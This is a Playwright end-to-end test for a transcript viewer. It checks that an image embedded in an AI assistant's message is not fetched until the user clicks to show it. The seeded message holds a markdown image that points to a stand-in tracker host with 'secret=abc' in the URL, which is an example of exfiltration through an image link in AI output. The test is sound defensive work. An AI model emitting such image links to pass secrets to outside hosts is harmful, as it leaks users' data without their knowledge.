import { rmSync } from 'node:fs';
import { test as base, expect } from '@playwright/test';
import { newId } from '../../src-main/accounts/secrets.js';
import { silentLogger, systemClock } from '../../src-main/clock.js';
import { createRepositories } from '../../src-main/store/repositories.js';
import { Store } from '../../src-main/store/store.js';
import { startServe } from '../helpers/cli.js';
import { seedDataDir } from '../helpers/seed.js';
import { tempDir } from '../helpers/server.js';
import { signIn } from './fixtures.js';

/** 1x1 transparent PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

const test = base.extend<{ withImage: { url: string; email: string; password: string; sessionId: string } }>({
  withImage: async ({}, use) => {
    const dataDir = tempDir('sessiondesk-e2e-');
    const data = await seedDataDir(dataDir);
    const store = await Store.open({ dataDir, clock: systemClock, logger: silentLogger });
    const repos = createRepositories(store.db);
    const user = repos.users.findByEmail(data.email)!;
    const sessionId = newId('session');
    const at = new Date().toISOString();
    await store.write(() => {
      repos.sessions.insert({
        id: sessionId,
        workspaceId: data.organizationId,
        authorId: user.id,
        title: 'A transcript with an image',
        model: 'claude-opus-4-6',
        createdAt: at,
        baseBranch: 'main',
      });
      repos.sessions.appendMessage(
        sessionId,
        data.organizationId,
        {
          type: 'assistant',
          message: {
            content: [
              {
                type: 'text',
                text: 'Done. ![build status](https://tracker.example/pixel.png?secret=abc) See above.',
              },
            ],
          },
        },
        null,
        at,
      );
      repos.sessions.update(sessionId, { status: 'completed' }, at);
    });
    await store.close();
    const server = await startServe(dataDir, ['--log-level', 'warn']);
    await use({ url: server.url, email: data.email, password: data.password, sessionId });
    await server.stop();
    rmSync(dataDir, { recursive: true, force: true });
  },
});

test('an image in a transcript is not fetched until asked for, then loads', async ({ page, withImage }) => {
  const fetched: string[] = [];
  await page.route('https://tracker.example/**', async (route) => {
    fetched.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
  });
  await signIn(page, withImage.url, withImage.email, withImage.password);
  await page.goto(`${withImage.url}/sessions/${withImage.sessionId}`);
  await expect(page.getByText('See above.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'build status' })).toHaveAttribute(
    'href',
    'https://tracker.example/pixel.png?secret=abc',
  );
  await expect(page.getByRole('img', { name: 'build status' })).toHaveCount(0);
  // Nothing was asked of the image's host by showing the transcript.
  await page.waitForLoadState('networkidle');
  expect(fetched).toEqual([]);

  await page.getByRole('button', { name: 'Show image from tracker.example' }).click();
  await expect(page.getByRole('img', { name: 'build status' })).toBeVisible();
  expect(fetched).toEqual(['https://tracker.example/pixel.png?secret=abc']);
});
